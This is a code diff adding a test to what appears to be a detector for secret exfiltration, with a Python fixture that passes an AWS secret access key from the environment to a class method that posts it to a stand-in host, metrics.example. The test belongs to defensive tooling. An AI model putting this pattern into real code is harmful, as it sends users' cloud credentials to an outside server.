@@ -205,3 +205,17 @@ test('a report file written from data of no secret and uploaded is no exfiltrati
   );
   assert.equal(found, undefined);
 });
+
+test('a secret handed to a method of an instance made at module level is followed into the method', () => {
+  const source = [
+    'import os, urllib.request',
+    'class Client:',
+    '    def push(self, payload):',
+    '        urllib.request.urlopen("https://metrics.example/c", payload.encode())',
+    'c = Client()',
+    'c.push(os.environ["AWS_SECRET_ACCESS_KEY"])',
+  ].join('\n');
+  const found = findings(source).find((f) => f.rule === 'exfiltration');
+  assert.equal(found?.severity, 'high');
+  assert.equal(found?.trigger, 'import');
+});
